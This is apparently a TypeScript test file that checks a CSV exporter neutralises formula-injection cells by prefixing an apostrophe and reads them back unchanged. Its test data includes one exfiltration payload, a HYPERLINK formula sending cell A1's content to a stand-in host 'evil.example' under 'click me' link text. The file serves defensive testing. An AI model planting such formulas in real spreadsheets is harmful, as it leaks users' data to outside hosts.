import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderFile } from '../../src/organizations/folder.js';
import { readCsv } from '../../src/files/csv/strict-table.js';
import { countLabels } from '../../src/organizations/tables.js';
import { readGrids } from '../../src/files/read-grids.js';
import { neutralCell, plainCell } from '../../src/files/formula.js';

/** OWASP, CSV injection. */
const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r'];
const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"点我")`;

describe('a cell that a spreadsheet would calculate', () => {
  it.each([...BEGINNINGS, "'=", "''@"])('is exported behind an apostrophe: %j', (beginning) => {
    const exported = neutralCell(`${beginning}1+1`);
    expect(exported).toBe(`'${beginning}1+1`);
    expect(plainCell(exported)).toBe(`${beginning}1+1`);
  });

  it.each(['路灯', "'路灯'", '1-2', '', "''", '36'])('is none of these: %j', (text) => {
    expect(neutralCell(text)).toBe(text);
    expect(plainCell(text)).toBe(text);
  });

  it('comes back whatever it was', () => {
    const text = fc.string({ unit: fc.constantFrom(...BEGINNINGS, "'", 'a', '路', '"', ',') });
    fc.assert(
      fc.property(text, (it) => plainCell(neutralCell(it)) === it && !/^[=+\-@\t\r]/.test(neutralCell(it))),
    );
  });

  it('is neutral in the tables of people and reads back by both readers', async () => {
    const cells = [FORMULA, '@SUM(A1)', '+8613800138000', '-', "'=x", '', '', '', ''];
    const csv = renderFile('people.csv', [cells]);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@]/m);
    const bytes = new TextEncoder().encode(csv);
    expect(readCsv('people.csv', bytes).table?.rows[0]?.cells).toEqual(cells);
    const { grids } = await readGrids('people.csv', bytes, countLabels);
    expect(grids[0]?.rows[1]?.cells.map(({ text }) => text)).toEqual(cells.filter(Boolean));
  });
});
